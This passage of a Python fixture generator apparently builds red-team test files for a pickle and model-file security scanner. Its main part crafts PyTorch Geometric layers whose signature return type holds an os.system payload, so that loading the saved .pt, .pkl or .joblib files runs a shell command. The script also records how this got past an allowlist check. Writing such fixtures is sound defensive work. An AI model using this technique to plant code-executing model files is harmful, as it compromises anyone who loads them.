    from numpy.lib.user_array import container
    from scipy.optimize import OptimizeResult
    good(C, "benign_container.pkl", pickle.dumps(container(np.arange(3)), protocol=2), "numpy user_array.container as pickle writes it (one BUILD)")
    good(C, "benign_optimize_result.pkl", pickle.dumps(OptimizeResult(x=np.ones(2), fun=2.0, success=True), protocol=2),
         "a SciPy OptimizeResult (a _RichResult) as pickle writes it: items, then BUILD")


# ---------------------------------------------------------------- P2: library code generation at load

def make_codegen(kept: dict[str, bytes]) -> None:
    """PyG's MessagePassing.__setstate__ (every message-passing layer) and Sequential.__setstate__
    render a Jinja template with strings from the pickled state (an Inspector's signature reprs),
    write it to a temporary .py file and import it (torch_geometric.template.module_from_template):
    a return annotation that is code runs at load. The allowlist screen did not follow the call into
    that module-level function (red team 16a, S1 and S1b). These are the real layers with one
    signature's return type swapped for code (and their typing-annotated hook dicts made plain, so
    that only allowlisted names appear); pickling them runs nothing. Built where torch_geometric is
    installed (/tmp/precision3/venv); elsewhere the files already written are kept as they are."""
    C = "codegen"
    files = {
        "pyg_gcnconv_annotation.pt": ("block", "P2", ["torch_geometric.nn.conv.gcn_conv.GCNConv"],
                                      "torch.save of a PyG GCNConv whose update() signature returns code: "
                                      "MessagePassing.__setstate__ renders and imports propagate.jinja"),
        "pyg_simpleconv_annotation.pkl": ("block", "P2", ["torch_geometric.nn.conv.simple_conv.SimpleConv"],
                                          "pickle of a PyG SimpleConv (no tensors) whose update() signature returns code"),
        "pyg_simpleconv_annotation.joblib": ("block", "P2", ["torch_geometric.nn.conv.simple_conv.SimpleConv"],
                                             "joblib.dump of the same SimpleConv"),
        "pyg_sequential_annotation.pt": ("block", "P2", ["torch_geometric.nn.sequential.Sequential"],
                                         "torch.save of a PyG Sequential whose signature returns code: its "
                                         "__setstate__ renders and imports sequential.jinja (BUILD alone runs it)"),
        "benign_pyg_gcnconv_state_dict.pt": ("pass", None, [], "a PyG GCNConv's state_dict saved by torch.save"),
    }
    try:
        made = pyg_files()
    except ImportError:
        made = {name: kept[name] for name in files if name in kept}
        if len(made) != len(files):
            raise SystemExit("make_attacks.py: torch_geometric is needed to write test/fixtures/redteam/codegen/")
    for name, (expect, threat, mentions, note) in files.items():
        out(C, name, made[name], expect, threat, mentions, note)


def pyg_files() -> dict[str, bytes]:
    import collections
    import joblib
    import torch
    from torch_geometric.inspector import Parameter, Signature
    from torch_geometric.nn import GCNConv, Sequential, SimpleConv

    code = f"__import__('os').system('{CMD}') and Tensor or Tensor"

    def plain(module):
        for m in module.modules():
            for k, v in list(m.__dict__.items()):
                if isinstance(v, collections.OrderedDict) and hasattr(v, "__orig_class__"):
                    m.__dict__[k] = collections.OrderedDict(v)
        return module

    def typed(sig, returns):
        params = {n: Parameter(p.name, torch.Tensor, p.type_repr, None) for n, p in sig.param_dict.items()}
        return Signature(params, torch.Tensor, returns)

    def arm(conv):
        sigs = conv.inspector._signature_dict
        for k, sig in list(sigs.items()):
            sigs[k] = typed(sig, sig.return_type_repr)
        sigs["update"] = typed(sigs["update"], code)
        return plain(conv)

    def saved(obj) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()

    torch.manual_seed(0)
    simple = arm(SimpleConv())
    joblib_buf = io.BytesIO()
    joblib.dump(simple, joblib_buf)
    seq = Sequential("x", [(torch.nn.Identity(), "x -> x")])
    seq.signature = typed(seq.signature, code)
    seq.__dict__.pop("forward", None)
    seq._caller_module = "torch"
    return {
        "pyg_gcnconv_annotation.pt": saved(arm(GCNConv(4, 4))),
        "pyg_simpleconv_annotation.pkl": pickle.dumps(simple, protocol=4),
        "pyg_simpleconv_annotation.joblib": joblib_buf.getvalue(),
        "pyg_sequential_annotation.pt": saved(plain(seq)),
        "benign_pyg_gcnconv_state_dict.pt": saved(GCNConv(4, 4).state_dict()),
    }


def main() -> None:
    kept = {f.name: f.read_bytes() for f in (OUT / "codegen").glob("*") if f.is_file()}
    for f in OUT.rglob("*"):
        if f.is_file():
            f.unlink()
    make_composition()
    make_families()
    make_py2()
    make_resources()
    make_dormant()
    make_memo()
    make_enums()
    make_cython()
    make_public()
    make_polyglots()
    make_forwarding()
    make_codegen(kept)
    (OUT / "manifest.json").write_text("[\n" + ",\n".join(json.dumps(e) for e in MANIFEST) + "\n]\n")
    n_bad = sum(e["expect"] == "block" for e in MANIFEST)
    print(f"{len(MANIFEST)} files: {n_bad} malicious, {len(MANIFEST) - n_bad} benign")
    if "--check" in sys.argv:
        sys.exit(check())


if __name__ == "__main__":
    main()
